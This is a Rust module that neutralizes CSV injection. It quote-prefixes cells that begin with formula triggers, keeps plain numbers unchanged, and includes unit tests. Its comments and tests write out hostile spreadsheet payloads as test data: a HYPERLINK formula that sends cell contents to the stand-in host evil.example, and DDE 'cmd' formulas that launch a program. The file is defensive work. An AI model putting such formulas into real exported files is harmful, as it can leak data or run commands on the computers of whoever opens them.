//! CSV cells that a spreadsheet will not run as formulas (CSV injection,
//! OWASP "CSV Injection").
//!
//! Every CSV the project writes goes through [`neutralize`]: a cell that
//! starts with `=`, `+`, `-`, `@`, a tab or a carriage return is written
//! with a leading `'`, which spreadsheets show as text instead of
//! evaluating (`=HYPERLINK(...)`, `+cmd|' /C calc'!A0`, `@SUM(...)`). Lead
//! names, summaries and every other text cell can come from outside (an
//! imported file, a caller's words through the model), so nothing is
//! trusted. A cell that is a plain decimal number (`+14155550100`,
//! `-2.5`) is written as is: a spreadsheet reads it as a number and
//! cannot run it, and E.164 phone numbers stay importable.

use std::borrow::Cow;

/// The first characters that make a spreadsheet evaluate a cell.
const TRIGGERS: &[char] = &['=', '+', '-', '@', '\t', '\r'];

/// Whether `s` is `[+-]digits[.digits]`, which spreadsheets read as a
/// number and never as a formula.
fn plain_number(s: &str) -> bool {
    let body = s.strip_prefix(['+', '-']).unwrap_or(s);
    let (int, frac) = match body.split_once('.') {
        Some((i, f)) => (i, Some(f)),
        None => (body, None),
    };
    let digits = |x: &str| !x.is_empty() && x.bytes().all(|b| b.is_ascii_digit());
    digits(int) && frac.is_none_or(digits)
}

/// The cell as it may be written to a CSV file: prefixed with `'` when it
/// starts with a formula trigger (and is not a plain number).
pub fn neutralize(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(TRIGGERS) && !plain_number(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_triggers_are_prefixed_with_a_quote() {
        for cell in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "=",
            "+",
            "-",
            "+1.",
            "-.5",
            "+1 555 0100",
        ] {
            assert_eq!(neutralize(cell), format!("'{cell}"), "{cell:?}");
        }
    }

    #[test]
    fn ordinary_text_and_plain_numbers_are_unchanged() {
        for cell in [
            "",
            "Ada Lovelace",
            "a=b",
            "'=already quoted",
            " =leading space",
            "+14155550100",
            "-2.5",
            "42",
            "0.5",
        ] {
            assert_eq!(neutralize(cell), cell, "{cell:?}");
        }
    }
}
